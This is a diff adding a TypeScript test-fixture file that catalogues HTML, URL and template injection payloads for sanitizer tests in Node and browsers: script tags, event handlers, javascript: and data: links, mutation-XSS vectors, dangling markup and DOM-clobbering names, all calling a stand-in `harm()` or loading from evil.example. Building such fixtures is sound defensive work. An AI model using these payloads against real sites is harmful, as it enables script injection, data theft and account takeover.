@@ -1,0 +1,301 @@
+/**
+ * Ways in which text from elsewhere runs, loads, sends or takes names on a page, a list of our own by the kinds that are
+ * known. What runs calls `harm`; what loads or sends does so at `evil.example`. Tests in Node and in browsers share it.
+ */
+
+const TAB = '\t';
+
+/** One of each kind of way in which markup runs, loads or sends; every one names `harm`. */
+export const MARKUP: Record<string, string> = {
+  script: '<script>harm()</script>',
+  'script in other cases, with a slash': '<ScRiPt/src=//evil.example/harm.js></sCrIpT >',
+  'module script': '<script type="module">import "https://evil.example/harm.js"</script>',
+  'event handler of a picture': '<img src=x onerror=harm()>',
+  'event handler without spaces': '<img/src="x"/onerror="harm()">',
+  'event handler in other cases': '<p OnMouseOver="harm()">words</p>',
+  'event handler that runs by itself': '<details open ontoggle=harm()><summary>More</summary>Words</details>',
+  'event handler on a made-up element': '<x-thing onfocus=harm() autofocus tabindex=1>words</x-thing>',
+  'event handler on marquee': '<marquee onstart=harm()>words</marquee>',
+  'javascript link': '<a href="javascript:harm()">words</a>',
+  'javascript link in other cases': '<a href="JaVaScRiPt:harm()">words</a>',
+  'javascript link with a tab': `<a href="java${TAB}script:harm()">words</a>`,
+  'javascript link with a newline': '<a href="java\nscript:harm()">words</a>',
+  'javascript link by entities': '<a href="&#106;avascript&colon;harm()">words</a>',
+  'javascript link by entities without semicolons': '<a href="&#x6A&#x61vascript:harm()">words</a>',
+  'javascript link after control characters': '<a href=" &#1;javascript:harm()">words</a>',
+  'javascript link with an entity newline': '<a href="javascript&NewLine;:harm()">words</a>',
+  'javascript link behind a view': '<a href="view-source:javascript:harm()">words</a>',
+  'vbscript link': '<a href="vbscript:harm()">words</a>',
+  'data link': '<a href="data:text/html,<script>harm()</script>">words</a>',
+  'blob link': '<a href="blob:https://evil.example/harm">words</a>',
+  'file link': '<a href="file:///harm">words</a>',
+  'data picture': '<img width=1 height=1 alt=a src="data:image/svg+xml,<svg onload=harm()>">',
+  'javascript picture': '<img width=1 height=1 alt=a src="javascript:harm()">',
+  'markup in a picture’s words': '<img width=1 height=1 src=a.png alt="<script>harm()</script>">',
+  'image map': '<map name=m><area href="javascript:harm()" alt=a shape=rect></map>',
+  'SVG with a handler': '<svg onload=harm()><circle r=1 /></svg>',
+  'SVG with a script': '<svg><script>harm()</script></svg>',
+  'SVG with a link': '<svg><a xlink:href="javascript:harm()"><text y=9>words</text></a></svg>',
+  'SVG that animates a link':
+    '<svg><a><animate attributeName=href values=javascript:harm() /><text>words</text></a></svg>',
+  'SVG with foreign markup':
+    '<svg><foreignObject><iframe srcdoc="<script>harm()</script>"></iframe></foreignObject></svg>',
+  'formula with a link': '<math><mtext xlink:href="javascript:harm()">words</mtext></math>',
+  'style with an expression': '<p style="width: exp/**/ression(harm())">words</p>',
+  'style with a javascript address': '<p style="background: url(javascript:harm())">words</p>',
+  'style sheet': '<style>@import "https://evil.example/harm.css"; p { background: url(harm) }</style>',
+  'linked style sheet': '<link rel=stylesheet href="https://evil.example/harm.css">',
+  'imported page': '<link rel=import href="data:text/html,<script>harm()</script>">',
+  iframe: '<iframe src="javascript:harm()"></iframe>',
+  'iframe with a page in it': '<iframe srcdoc="&lt;script&gt;harm()&lt;/script&gt;"></iframe>',
+  object: '<object data="javascript:harm()"><embed src="javascript:harm()"></object>',
+  applet: '<applet code=harm archive="https://evil.example/harm.jar"></applet>',
+  'form with an action': '<form action="javascript:harm()"><button>Send</button></form>',
+  'button with an action': '<button formaction="javascript:harm()">Send</button>',
+  'input with a picture': '<input type=image src=x onerror=harm()>',
+  'meta that leads away': '<meta http-equiv=refresh content="0;url=javascript:harm()">',
+  'meta that leads away by data':
+    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>harm()</script>">',
+  'base address': '<base href="javascript:harm()//">',
+  template: '<template><script>harm()</script></template>',
+  'shadow root': '<div><template shadowrootmode=open><img src=x onerror=harm()></template></div>',
+  noscript: '<noscript><p title="</noscript><img src=x onerror=harm()>">words</p></noscript>',
+  'noscript in a title': '<noscript><style></noscript><img src=x onerror=harm()></style></noscript>',
+  comment: '<!-- <script>harm()</script> -->',
+  'comment that ends early': '<!--><img src=x onerror=harm()>-->',
+  'comment that ends with a bang': '<!-- --!><img src=x onerror=harm()> -->',
+  'conditional comment': '<!--[if IE]><script>harm()</script><![endif]-->',
+  'character data': '<![CDATA[<img src=x onerror=harm()>]]>',
+  'processing instruction': '<?xml-stylesheet href="javascript:harm()"?>',
+  'raw text': '<xmp><img src=x onerror=harm()></xmp>',
+  'text area that ends early': '<textarea></textarea><img src=x onerror=harm()></textarea>',
+  'mutation by a formula':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=harm()&gt;">',
+  'mutation by a drawing': '<svg></p><style><a id="</style><img src=1 onerror=harm()>">',
+  'mutation by a form':
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=harm() src>">',
+  'tag that is not closed': '<img src=x onerror=harm() ',
+  'tag written out as text': '&lt;script&gt;harm()&lt;/script&gt; and &lt;img src=x onerror=harm()&gt;',
+  'tag written out in two halves': '&lt;<!-- -->script&gt;harm()&lt;/script&gt;',
+  'tag that cleaning would make': '&lt;scr&lt;b&gt;ipt&gt;harm()&lt;/scr&lt;b&gt;ipt&gt;',
+  'handlers in a heading':
+    '<h2 onclick=harm()>Care <img src=x onerror=harm()><script>harm()</script></h2><p>Words.</p>',
+  'handlers in a table':
+    '<table background="javascript:harm()"><tr><th>A<td>B<tr><td><a href="javascript:harm()">x</a><td onclick=harm()>y</table>',
+  'handlers in a list':
+    '<ul><li onclick=harm()><b>Term<script>harm()</script>:</b> <a href="javascript:harm()">text</a></ul>',
+  'quote of a javascript address': '<blockquote cite="javascript:harm()">words</blockquote>',
+  'video with a handler': '<video poster=javascript:harm()><source onerror=harm()></video>',
+  'an isindex': '<isindex type=image src=1 onerror=harm()>',
+  'link that loads when it is pressed':
+    '<a href="https://clinic.example/" ping="javascript:harm()" onclick="harm()">words</a>',
+  'handler that an animation starts': '<p style="animation-name:x" onanimationstart=harm()>words</p>',
+  'handler of a pointer': '<b onpointerenter=harm() onauxclick=harm()>words</b>',
+  'handler between slashes and controls': '<img/src/onerror=harm()//>',
+  'handler after a form feed': '<img\fsrc=x\fonerror=harm()>',
+  'handler of a sound': '<audio src=x onerror=harm()></audio>',
+  'handler of a track': '<video><track default src=x onload=harm() oncuechange=harm()></video>',
+  'handler of a body within a page':
+    '<div><body onload=harm() onpageshow=harm()><p onclick=harm()>words</p></div>',
+  'handler of an object': '<object data=x onerror=harm()></object>',
+  'handler of a select': '<select autofocus onfocus=harm()><option>words</select>',
+  'handler of a text area': '<textarea autofocus onfocus=harm()>words</textarea>',
+  'handler of a dialog': '<dialog open onclose=harm()>words</dialog>',
+  'handler of a popover':
+    '<button popovertarget=x>Go</button><div popover id=x onbeforetoggle=harm()>words</div>',
+  'handler of content that becomes visible':
+    '<p style="content-visibility:auto" oncontentvisibilityautostatechange=harm()>words</p>',
+  'handler of a formula': '<math onclick=harm()><mi onclick=harm()>words</mi></math>',
+  'SVG that animates itself': '<svg><animate onbegin=harm() attributeName=x dur=1s></svg>',
+  'SVG that sets a link':
+    '<svg><a><set attributeName=href to=javascript:harm() /><text>words</text></a></svg>',
+  'SVG that uses another': '<svg><use href="data:image/svg+xml,<svg id=x onload=harm()>#x"></use></svg>',
+  'SVG with a style': '<svg><style>@import "https://evil.example/harm.css";</style></svg>',
+  'SVG with a picture': '<svg><image href="https://evil.example/harm.png" onload=harm() /></svg>',
+  'formula with an action':
+    '<math><maction actiontype="statusline" xlink:href="javascript:harm()">words</maction></math>',
+  'javascript link with entity tabs': '<a href="j&Tab;a&NewLine;v&#13;ascript:harm()">words</a>',
+  'javascript link with a long entity': '<a href="&#0000106avascript:harm()">words</a>',
+  'javascript link after a space of another kind': '<a href="&#x0B;javascript:harm()">words</a>',
+  'javascript link that looks like a web address':
+    '<a href="javascript://clinic.example/%0Aharm()">words</a>',
+  'javascript link with an origin': '<a href="javascript:harm()//https://clinic.example">words</a>',
+  'livescript link': '<a href="livescript:harm()">words</a>',
+  'filesystem link': '<a href="filesystem:https://evil.example/temporary/harm.html">words</a>',
+  'intent link': '<a href="intent://harm#Intent;scheme=javascript;end">words</a>',
+  'view of a source': '<a href="about:srcdoc">words</a>',
+  'data link in base64': '<a href="data:text/html;base64,PHNjcmlwdD5oYXJtKCk8L3NjcmlwdD4=">words</a>',
+  'data link in other cases': '<a href="DaTa:text/html,<script>harm()</script>">words</a>',
+  'several pictures': '<img src="x" srcset="javascript:harm() 1x, https://evil.example/harm.png 2x" alt=a>',
+  'picture of several sources':
+    '<picture><source srcset="https://evil.example/harm.png"><img src="javascript:harm()" alt=a></picture>',
+  'style with a behaviour': '<p style="behavior: url(harm.htc); -moz-binding: url(harm.xml)">words</p>',
+  'style with escapes': String.raw`<p style="width: \65xpression(harm())">words</p><style>*{}</style>`,
+  'style sheet that reads what is typed':
+    '<style>input[value^=a] { background: url(https://evil.example/harm.png) }</style>',
+  'style sheet loaded ahead': '<link rel=preload as=script href="https://evil.example/harm.js">',
+  'module loaded ahead': '<link rel=modulepreload href="https://evil.example/harm.js">',
+  'page drawn ahead': '<link rel=prerender href="https://evil.example/harm">',
+  'meta that sets a policy': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
+  'meta that leads away in other cases':
+    '<META HTTP-EQUIV="ReFrEsH" CONTENT="0;URL=https://evil.example/harm">',
+  'base address elsewhere': '<base href="https://evil.example/" target=_blank>',
+  'import map': '<script type=importmap>{"imports":{"lit":"https://evil.example/harm.js"}}</script>',
+  'rules of speculation':
+    '<script type=speculationrules>{"prerender":[{"urls":["https://evil.example/harm"]}]}</script>',
+  'data that closes its script':
+    '<script type="application/json">"</script><script>harm()</script>"</script>',
+  'declared shadow root': '<template shadowrootmode=open><script>harm()</script><slot></slot></template>',
+  'template within a template': '<template><template><img src=x onerror=harm()></template></template>',
+  'image button': '<button type=submit formaction="javascript:harm()" form=x>Send</button>',
+  'form owner from afar': '<form id=x action="javascript:harm()"></form><input form=x type=submit>',
+  'embedded frame': '<embed src="data:text/html,<script>harm()</script>" type=text/html>',
+  'object with a page': '<object type=text/html data="data:text/html,<script>harm()</script>"></object>',
+  'frame with a policy of its own':
+    '<iframe csp="script-src *" allow="camera *" src="https://evil.example/harm"></iframe>',
+  'fenced frame':
+    '<fencedframe src="https://evil.example/harm"></fencedframe><portal src="https://evil.example/"></portal>',
+  'noscript within a table': '<table><noscript><style></noscript><img src=x onerror=harm()></table>',
+  'mutation by a title': '<svg><title><style><img title="</style><img src=x onerror=harm()>"></title></svg>',
+  'mutation by a description':
+    '<svg><desc><noscript></desc><img title="</noscript><img src=x onerror=harm()>">',
+  'mutation by an annotation':
+    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=harm()>"></math>',
+  'mutation by a select':
+    '<select><template><style><!--</style><a rel="--></style></template><img src=x onerror=harm()>">',
+  'mutation by an option':
+    '<select><option><svg><style></option></select><img title="</style><img src=x onerror=harm()>">',
+  'mutation by character data': '<svg><![CDATA[><img src=x onerror=harm()>]]></svg>',
+  'mutation by a text area':
+    '<textarea><math><mtext></textarea><img title="</textarea><img src=x onerror=harm()>">',
+  'mutation by raw text': '<noembed><img title="</noembed><img src=x onerror=harm()>"></noembed>',
+  'mutation by frames': '<noframes><img title="</noframes><img src=x onerror=harm()>"></noframes>',
+  'mutation by plain text': '<plaintext><img src=x onerror=harm()>',
+  'dangling text area': '<form action="https://evil.example/harm"><textarea name=x>',
+  'dangling button': '<button name=x form=y formaction="https://evil.example/harm">Send<select name=z>',
+  'dangling style': '<style>@import "https://evil.example/harm?',
+  'elements of our own': '<consultation-form action="https://evil.example/harm"></consultation-form>',
+  'an article of our own': '<share-links url="javascript:harm()"></share-links>',
+  'names that the page uses': '<form name=body><input name=attributes></form><img name=cookie src=x>',
+  'names that all objects have': '<form id=__proto__><input id=constructor name=nodeName></form>',
+};
+
+/** What is harmless once it has been parsed, so that nothing need be told. */
+export const PARSED_AWAY: Record<string, string> = {
+  'link with markup in it': '<a href="https://evil.example/&quot;><script>harm()</script>">words</a>',
+  'attribute that a backtick ends': '<img src="`><script>harm()</script>" width=1 height=1 alt=a>',
+  frames: '<frameset onload=harm()><frame src="javascript:harm()"></frameset>',
+  'script within a script': '<scr<script>harm()</script>ipt>harm()</script>',
+  'names of frames and links':
+    '<a id=body href="https://clinic.example/">words</a><a id=attributes name=location href="/x">words</a>',
+  'attributes that all objects have': '<p __proto__=harm constructor=harm hasOwnProperty=harm>words</p>',
+  'picture in the background':
+    '<body background="javascript:harm()"><td background="javascript:harm()">words</td>',
+  'dangling picture': '<img src="https://evil.example/harm?',
+  'places of lit': '<p>${harm()} {{harm()}} <b class="lit$1234$">?lit$1234$</b></p>',
+  'link with nothing wide in it': '<a href="java\u200bscript:harm()">words</a>',
+  'link with letters that look alike': '<a href="ϳavascript:harm()">words</a>',
+  'link with wide letters': '<a href="\uff4aavascript:harm()">words</a>',
+  'link that leads within the page': '<a href="#javascript:harm()">words</a>',
+  'words from right to left': '<p>Call \u202e3210 555 555\u202c today</p>',
+};
+
+/** With bytes of null, which no file may hold but JSON may. */
+export const NULL_BYTES: Record<string, string> = {
+  'bytes of null within names': '<scr\u0000ipt>harm()</scr\u0000ipt><p on\u0000click=harm()>words</p>',
+  'link with a byte of null': '<a href="java\u0000script:harm()">words</a>',
+};
+
+/** Addresses that run, load or lead where no link should, and such as only look so. */
+export const ADDRESSES: string[] = [
+  'javascript:harm()',
+  'JaVaScRiPt:harm()',
+  ' \n\tjavascript:harm()',
+  'java\tscript:harm()',
+  'java\r\nscript:harm()',
+  '\u0001javascript:harm()',
+  '\u0000javascript:harm()',
+  'java\u0000script:harm()',
+  'java\u200bscript:harm()',
+  '\ufeffjavascript:harm()',
+  '\u00a0javascript:harm()',
+  '\u202ejavascript:harm()',
+  '\uff4aavascript:harm()',
+  'javascript\u003aharm()',
+  'javascript&colon;harm()',
+  '&#106;avascript:harm()',
+  'javascript%3Aharm()',
+  'javascript://clinic.example/%0aharm()',
+  'javascript:/*https://clinic.example/*/harm()',
+  'x:javascript:harm()',
+  'view-source:javascript:harm()',
+  'feed:javascript:harm()',
+  'jar:https://evil.example/harm.jar!/',
+  'vbscript:harm()',
+  'livescript:harm()',
+  'mocha:harm()',
+  'data:text/html,<script>harm()</script>',
+  'DATA:text/html;base64,PHNjcmlwdD5oYXJtKCk8L3NjcmlwdD4=',
+  'data:image/svg+xml,<svg onload=harm()>',
+  'blob:https://evil.example/harm',
+  'filesystem:https://evil.example/harm',
+  'file:///harm',
+  'about:blank#harm()',
+  'ws://evil.example/harm',
+  'ftp://evil.example/harm',
+  'intent://harm#Intent;scheme=javascript;end',
+  'https://clinic.example/"><script>harm()</script>',
+  '/" onclick="harm()',
+  "/' onmouseover='harm()",
+  '?${harm()}',
+  '#"><img src=x onerror=harm()>',
+];
+
+/** Texts that a program between a document and the page might take for more than text. */
+export const TEXTS: Record<string, string> = {
+  'places of lit': '<!--?lit$123456789$--><?lit$123456789$><p lit$123456789$>${harm()}</p>',
+  'marks of parts': '<!--lit-part harm()--><!--/lit-part--><!--lit-node 0-->',
+  'marks of another renderer': '{{lit-123456789}} {{ harm() }} <%= harm() %> [[harm()]] ${harm()}',
+  'end of a script': '</script><script>harm()</script>',
+  'end of a script in a comment': '<!--<script>',
+  'end of a script, then a comment': '--></script><!--<script>harm()</script>',
+  'end of a style': '</style><style>@import "https://evil.example/harm.css"</style>',
+  'end of a title': '</title><script>harm()</script>',
+  'end of a text area': '</textarea><img src=x onerror=harm()>',
+  'end of an attribute': '" onclick="harm()" x="',
+  'end of another attribute': "' onclick='harm()' x='",
+  'end of an attribute in backticks': '` onclick=harm() x=`',
+  'end of character data': ']]><script>harm()</script>',
+  'end of a slot': '</slot></template><script>harm()</script>',
+  'end of JSON': '"}]}</script><script>harm()</script>',
+  'separators of lines': 'words\u2028harm()\u2029words',
+  'a byte of null': 'wor\u0000ds<scr\u0000ipt>harm()</script>',
+  'half a pair': 'words\ud800<script>harm()</script>',
+  'words from right to left': '\u202e\u2067<script>harm()</script>',
+  'nothing wide': '\u200b<\u200bscript>harm()</script>',
+  'wide brackets': '\uff1cscript\uff1eharm()\uff1c/script\uff1e',
+  'names of patterns': "$& $1 $` $' \\u003cscript\\u003eharm()",
+  'keys of objects': '__proto__',
+  'a very long word': `<img src=x onerror=harm()>${'a'.repeat(1500)}`,
+};
+
+/** Section ids that name what pages and objects have; those that the schema allows. */
+export const TAKEN_NAMES: string[] = [
+  'body',
+  'head',
+  'attributes',
+  'children',
+  'constructor',
+  'prototype',
+  'location',
+  'cookie',
+  'forms',
+  'name',
+  'top',
+  'self',
+  'parent',
+  'status',
+  'toString'.toLowerCase(),
+  'hasownproperty',
+  'firstchild',
+];
